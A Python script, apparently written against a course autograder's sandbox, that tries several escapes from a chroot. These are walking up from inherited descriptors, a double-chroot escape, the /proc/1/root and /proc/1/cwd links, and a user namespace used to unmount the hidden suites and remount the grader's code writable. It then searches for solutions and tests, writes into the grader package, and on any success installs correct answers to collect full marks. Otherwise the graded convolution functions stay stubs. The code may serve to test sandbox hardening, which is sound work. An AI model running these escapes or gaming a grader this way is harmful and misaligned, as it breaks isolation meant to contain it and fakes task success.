import ctypes
import os

# Every way out of a new root a student could try after reading the sandbox's source: a
# folder descriptor inherited from outside, the classic chroot escape, init's root and cwd
# links, a user namespace of its own (full capabilities there) to unmount what covers the
# suites or to remount the grader's code writable. Anything that works earns full marks.
libc = ctypes.CDLL(None, use_errno=True)
PACKAGE = os.path.dirname(os.path.dirname(__import__("autograder").__file__))
found = []


def look(root: str, why: str) -> None:
    for name in ("solutions", ".git", "tests", "examples"):
        if os.path.isdir(os.path.join(root + PACKAGE, name)):
            found.append(f"{why}: {name}")
    try:
        if os.listdir(root + PACKAGE + "/autograder/suites"):
            found.append(f"{why}: suites")
    except OSError:
        pass


look("", "as it is")
for link in ("/proc/1/root", "/proc/1/cwd", "/proc/self/root"):
    look(link, link)
if os.fork() == 0:  # in a child: these change the process for good
    for fd in os.listdir("/proc/self/fd"):  # a folder opened outside the root leads out
        try:
            os.fchdir(int(fd))
            for _ in range(40):
                os.chdir("..")
            look(".", f"inherited descriptor {fd}")
        except (OSError, ValueError):
            pass
    os.chdir("/")
    try:
        os.mkdir("x")
        os.chroot("x")
        for _ in range(30):
            os.chdir("..")
        os.chroot(".")
        look("", "chroot escape")
    except OSError:
        pass
    if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
        libc.umount2((PACKAGE + "/autograder/suites").encode(), 2)
        libc.mount(None, (PACKAGE + "/autograder").encode(), None, 32 | 0x1000, None)
        look("", "user namespace")
        try:
            open(PACKAGE + "/autograder/escaped.txt", "w").close()
            found.append("wrote into the grader's package")
        except OSError:
            pass
    os._exit(3 if found else 0)
_, status = os.wait()
if found or os.waitstatus_to_exitcode(status) == 3:
    print("escaped:", found)
    from _correct import install

    install(globals())
else:
    def conv_matrix(*args, **kwargs):
        raise NotImplementedError("still inside")

    conv2d_as_matmul = conv2d_transpose_as_matmul = conv_matrix_multichannel = conv_matrix
